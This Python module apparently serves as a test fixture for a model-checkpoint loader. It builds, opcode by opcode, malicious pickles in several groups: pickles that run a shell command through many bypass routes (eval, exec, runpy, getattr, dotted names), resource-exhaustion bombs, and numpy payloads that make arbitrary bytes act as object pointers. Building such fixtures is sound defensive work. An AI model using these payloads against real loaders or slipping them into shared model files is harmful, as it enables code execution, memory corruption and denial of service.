"""Pickles that run a command, claim gigabytes, or are nested beyond all measure. Written by hand, instruction by
instruction: Python's own pickler would not make most of them."""

import pickle
import struct

CANARY = "CKPTMAN_FAULTS_CANARY"
"""The environment variable that names the file which their command makes."""
_COMMAND = f"touch ${CANARY}"
_CODE = f"__import__('os').system('{_COMMAND}')"


def text(value):
    data = value.encode()
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def call(module, name, *arguments):
    """What a callable gives, as instructions."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def whole(instructions, protocol=2):
    return pickle.PROTO + bytes([protocol]) + instructions + pickle.STOP


COMMANDS = {
    "os.system": whole(call("os", "system", text(_COMMAND))),
    "posix.system": whole(call("posix", "system", text(_COMMAND))),
    "eval": whole(call("builtins", "eval", text(_CODE))),
    "eval by its old name": whole(call("__builtin__", "eval", text(_CODE))),
    "exec": whole(call("builtins", "exec", text(_CODE))),
    "subprocess": whole(call("subprocess", "getoutput", text(_COMMAND))),
    "by the stack": whole(text("os") + text("system") + b"\x93" + text(_COMMAND) + b"\x85R", 4),
    "by INST": b"(" + b"S'" + _COMMAND.encode() + b"'\nios\nsystem\n.",
    "by OBJ": whole(b"(cos\nsystem\n" + text(_COMMAND) + b"o"),
    "by getattr": whole(
        b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n("
        + text("os")
        + b"tR"
        + text("system")
        + b"tR("
        + text(_COMMAND)
        + b"tR"
    ),
    "in a dict that looks like state": whole(
        b"}(" + text("state") + b"}(K\x00" + call("os", "system", text(_COMMAND)) + b"su" + text("x") + b"K\x01u"
    ),
    "by a name with dots": whole(
        text("torch.serialization") + text("os.system") + b"\x93" + text(_COMMAND) + b"\x85R", 4
    ),
    "after a good value": whole(b"K\x010" + call("os", "system", text(_COMMAND))),
    "by runpy": whole(
        call("runpy", "_run_code", call("builtins", "compile", text(_CODE), text("x"), text("exec")), b"}")
    ),
}
"""Each runs the command when it is unpickled without restriction."""

_DEEP = 1_000_000
_SLOW_TEXT = text("".join(chr(0x4E00 + i * 7919 % 20_000) for i in range(200_000)))
_ENCODE = b"c_codecs\nencode\n"
SLOW = {
    "a text to encode for minutes": whole(call("_codecs", "encode", _SLOW_TEXT, text("punycode"))),
    "bytes of a text to encode for minutes": whole(call("builtins", "bytearray", _SLOW_TEXT, text("punycode"))),
    "the same by its old name": whole(call("__builtin__", "bytearray", _SLOW_TEXT, text("punycode"))),
    "arguments of it in a list": whole(_ENCODE + b"](" + _SLOW_TEXT + text("punycode") + b"eR"),
    "it by the hand of another": whole(
        b"ctorch._tensor\n_rebuild_from_type_v2\n("
        + _ENCODE
        + b"cbuiltins\nbytearray\n("
        + _SLOW_TEXT
        + text("punycode")
        + b"tNtR"
    ),
    "sixteen gigabytes of zeros": whole(call("builtins", "bytearray", b"\x8a\x05" + (2**34).to_bytes(5, "little"))),
}
"""Harmless to the last byte, and it takes minutes or all memory."""


def latin(data):
    """Bytes, as protocol 2 has them."""
    return call("_codecs", "encode", text(data.decode("latin1")), text("latin1"))


def dtype(code, state=b""):
    """A dtype of numpy. `state`: what is put on it."""
    return call("numpy", "dtype", text(code), b"\x89", b"\x88") + (b"(" + state + b"tb" if state else b"")


def array(made_of, data, made=b"K\x00\x85", code=b"b", core="_core"):
    """An array of numpy with one element, or what looks like one."""
    begun = call(f"numpy.{core}.multiarray", "_reconstruct", b"cnumpy\nndarray\n", made, latin(code))
    return begun + b"(K\x01K\x01\x85" + made_of + b"\x89" + latin(data) + b"tb"


def _with_field(inner, at=b"K\x00"):
    """What is put on a dtype so that it has one field."""
    names = text("f") + b"\x85}" + text("f") + inner + at + b"\x86s"
    return b"K\x03" + text("|") + b"N" + names + b"K\x08K\x01K\x00"


_PLAIN = b"K\x03" + text("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xff"
_WILD = b"AAAAAA\0\0"
POINTERS = {
    f"numpy: {name}": whole(instructions)
    for name, instructions in {
        "a field of objects": array(dtype("V8", _with_field(dtype("O"))), _WILD),
        "a field of objects in a text": array(dtype("S8", _with_field(dtype("O"))), _WILD),
        "a field of objects in a number": array(dtype("f8", _with_field(dtype("O"))), _WILD, core="core"),
        "a field far behind": array(dtype("V8", _with_field(dtype("f8"), b"J\x00\x00\x10\x00")), _WILD),
        "a field far behind a text": array(dtype("S8", _with_field(dtype("f8"), b"J\x00\x00\x10\x00")), _WILD),
        "a part that repeats": array(
            dtype("S8", b"K\x03" + text("|") + dtype("O") + b"K\x01\x85\x86NNK\x08K\x01K\x00"), _WILD
        ),
        "flags of objects": array(dtype("f8", _PLAIN + b"K\x3f"), _WILD),
        "objects": array(dtype("O8", _PLAIN + b"K\x3f"), _WILD),
        "a number that is an object": call("numpy._core.multiarray", "scalar", dtype("O"), latin(_WILD)),
        "a number that has a field": call(
            "numpy._core.multiarray", "scalar", dtype("V8", _with_field(dtype("O"))), latin(_WILD)
        ),
        "a number of fewer bytes": call(
            "numpy._core.multiarray", "scalar", dtype("f8", _PLAIN + b"K\x00"), latin(b"AA")
        ),
        "an array of fewer bytes": array(dtype("f8", _PLAIN + b"K\x00"), b"AA"),
        "2^29 objects": array(dtype("O"), _WILD, made=b"J\x00\x00\x00\x20\x85", code=b"O"),
        "an array without bytes": b"cnumpy\nndarray\n(J\x00\x00\x00\x20\x85" + dtype("O") + b"tR",
        "a dtype by its class": b"cnumpy.dtypes\nObjectDType\n)R",
    }.items()
}
"""numpy follows what it takes for a pointer."""

BOMBS = {
    "a memo of 2^31 entries": whole(b"K\x01r\xff\xff\xff\x7f"),
    "a memo of 2^28 entries": whole(b"K\x01r\xff\xff\xff\x0f"),
    "bytes of a terabyte": whole(b"\x8e" + struct.pack("<Q", 2**40), 4),
    "text of a gigabyte": whole(b"X" + struct.pack("<I", 2**30)),
    "a number of two gigabytes": whole(b"\x8b" + struct.pack("<i", 2**31 - 1)),
    "a frame of an exabyte": whole(b"\x95" + struct.pack("<Q", 2**60) + b"K\x01", 4),
    "a tuple nested a million times": whole(b")" + b"\x85" * _DEEP, 4),
    "that tuple as a key": whole(b"}" + b")" + b"\x85" * _DEEP + b"K\x01s", 4),
    "a list nested 200,000 times": whole(b"]" * 200_000 + b"a" * 199_999, 4),
    "a tuple doubled sixty times": whole(b")" + b"2\x86" * 60, 4),
    "that tuple as a key too": whole(b"}" + b")" + b"2\x86" * 60 + b"K\x01s", 4),
    "one doubled by the memo, as a key": whole(
        b"})q\x000" + b"".join(b"h%ch%c\x86q%c0" % (n, n, n + 1) for n in range(60)) + b"h\x3cK\x01s"
    ),
    "marks without end": whole(b"(" * _DEEP, 4),
    "nothing": b"",
    "no end": b"\x80\x02K\x01",
    "a persistent id": whole(b"Pos.system\n"),
    "an extension": whole(b"\x82\x01"),
    "a buffer from outside": whole(b"\x97", 5),
    **SLOW,
    **POINTERS,
}
